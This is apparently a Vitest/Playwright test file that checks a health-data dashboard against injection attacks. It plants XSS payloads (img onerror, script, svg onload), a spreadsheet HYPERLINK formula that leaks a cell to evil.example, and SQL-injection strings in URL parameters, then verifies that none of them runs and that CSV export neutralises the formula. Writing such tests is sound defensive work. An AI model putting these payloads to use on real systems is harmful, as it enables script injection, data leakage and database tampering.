import { beforeAll, describe, expect, it } from 'vitest';
import { tableToIPC } from 'apache-arrow';
import { Table as WasmTable, writeParquet } from 'parquet-wasm';
import { arrowTableFromColumns } from '../data/arrowTable';
import { CONTRACT } from '../data/contract';
import { districtFacts, fmt, readDemoTable } from './demoFacts';
import { chooseFiles, download, withDashboard, waitForView } from './browser';

const IMG = '<img src=x onerror="window.__pwned=1">';
const SCRIPT = '<script>window.__pwned=2</script>';
const SVG = '<svg onload="window.__pwned=3"><circle r=9 /></svg>';
const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")';

describe('hostile text in the data is shown as text everywhere and never runs', () => {
  const w = withDashboard();
  const facts = districtFacts();
  const worst = [...facts].sort((a, b) => a.workforce / a.population - b.workforce / b.population || a.name.localeCompare(b.name));
  // The demo regions with four names replaced by attacks: the worst-served district, two others, and a province.
  const hostileNames: Record<string, string> = { [worst[0].region_id]: IMG, [worst[1].region_id]: SCRIPT, [worst[2].region_id]: FORMULA, P1: SVG };
  beforeAll(async () => {
    const regions = readDemoTable<Record<string, unknown> & { region_id: string; name: string }>('regions');
    const cols = Object.fromEntries(CONTRACT.regions.columns.map((c) => [c.name, regions.map((r) => (c.name === 'name' ? hostileNames[r.region_id] ?? r.name : r[c.name] ?? null))]));
    const bytes = writeParquet(WasmTable.fromIPCStream(tableToIPC(arrowTableFromColumns(CONTRACT.regions, cols), 'stream')));
    // The demo's other tables stay (an explicit choice): the hostile names must show in the full dashboard.
    await chooseFiles(w.page, [{ name: 'regions.parquet', buffer: Buffer.from(bytes) }], 'keep-demo');
    await w.page.waitForFunction((name) => [...document.querySelectorAll('[data-testid="district-table"] td')].some((td) => td.textContent === name), IMG);
  });

  const noScriptRan = async () => {
    expect(await w.page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
    expect(await w.page.locator('img, svg[onload], [onerror]').count()).toBe(0);
  };

  it('overview: the table cells, the ranking axis and the summary show the names as text', async () => {
    const cells = await w.page.$$eval('[data-testid="district-table"] tbody tr td:first-child', (tds) => tds.map((td) => td.textContent));
    expect(cells.slice(0, 3)).toEqual([IMG, SCRIPT, FORMULA]);
    const ticks = await w.page.$$eval('[data-testid="ranked-bars"] svg g[aria-label="y-axis tick label"] text', (ts) => ts.map((t) => t.textContent));
    expect(ticks.slice(0, 3)).toEqual([IMG, SCRIPT, FORMULA]);
    await expect(w.page.getByTestId('worst-summary').innerText()).resolves.toContain(IMG);
    await w.page.getByTestId('filter-province').selectOption('P1');
    await w.page.waitForFunction((n) => document.querySelector('[data-testid="kpi-panel"] h2')?.textContent === `Headline figures, ${n}`, SVG);
    await w.page.getByTestId('filter-province').selectOption('');
    await noScriptRan();
  });

  it('a tooltip shows the name as text', async () => {
    // The top bar of the ranking is the worst-served district, named with the <img> attack.
    const bar = w.page.locator('[data-testid="ranked-bars"] svg g[aria-label="bar"]').first().locator('rect').first();
    // The chart may be redrawn while we aim (the loader panel closing changes its width): aim again at the new bar.
    await expect.poll(async () => {
      try {
        await bar.scrollIntoViewIfNeeded({ timeout: 2000 }); // the open loader panel can push the chart below the fold
        const box = (await bar.boundingBox())!;
        await w.page.mouse.move(box.x + Math.max(2, box.width / 2), box.y + box.height / 2);
        return true;
      } catch {
        return false;
      }
    }, { timeout: 20_000 }).toBe(true);
    await w.page.waitForFunction((name) => [...document.querySelectorAll('[data-testid="ranked-bars"] g[aria-label="tip"] tspan, [data-testid="ranked-bars"] g[aria-label="tip"] text')]
      .some((t) => t.textContent?.includes(name)), IMG.slice(0, 12)); // Plot shortens long tip lines with an ellipsis
    await noScriptRan();
  });

  it('other views show the names as text too', async () => {
    for (const view of ['need', 'partnerships', 'trends', 'equity', 'access', 'data']) {
      await w.page.getByTestId(`tab-${view}`).click();
      await waitForView(w.page, view);
      await noScriptRan();
    }
  });

  it('a CSV export neutralises the formula', async () => {
    await w.page.getByTestId('tab-overview').click();
    const csv = (await download(w.page.getByTestId('export-districts'), 'button[data-format="csv"]')).bytes.toString('utf8');
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click me"")"`);
    expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);
  });

  it('no request left the origin and no error was logged', () => {
    expect(w.foreignRequests).toEqual([]);
    expect(w.consoleErrors).toEqual([]);
  });
});

describe('hostile URL parameters are ignored with a notice, never an error page', () => {
  const q = new URLSearchParams({
    view: '<script>alert(1)</script>', province: "P1' OR '1'='1", measure: 'beds; DROP TABLE facilities', district: '"><img src=x>',
    ftype: "clinic' --", owner: '<b>x</b>', service: "surgery') OR 1=1 --", indicator: "'; DROP TABLE coverage; --", dimension: '<svg onload=1>',
    year: '2020 OR 1=1', table: 'regions; DROP TABLE regions', sort: '-name; DROP', f_name: "%' OR '1'='1", page: '-5', size: '1e9',
    active: '20x', partner: "ngo'", programme: '<i>', need: "poverty_rate' --", 'Bad Key': 'x',
  });
  const w = withDashboard(`?${q}`, { ready: ['[data-testid="kpi-population"]'] });

  it('every parameter at once', async () => {
    const notice = await w.page.getByTestId('url-notice').innerText();
    expect(notice).toContain('Unknown view');
    expect(notice).toContain('is not a valid region code');
    expect(await w.page.getByTestId('kpi-population').innerText()).toBe(fmt(districtFacts().reduce((s, d) => s + d.population, 0)));
    expect(await w.page.getByTestId('kpi-facilities').innerText()).toBe('3,401');
    for (const view of ['data', 'equity', 'trends', 'partnerships', 'need']) {
      await w.page.getByTestId(`tab-${view}`).click();
      await waitForView(w.page, view);
      expect(await w.page.locator('.panel-error pre').count(), `${view} shows an SQL error`).toBe(0);
    }
    expect(await w.page.evaluate(() => document.querySelectorAll('img').length)).toBe(0);
    expect(w.consoleErrors).toEqual([]);
    expect(w.foreignRequests).toEqual([]);
  });
});
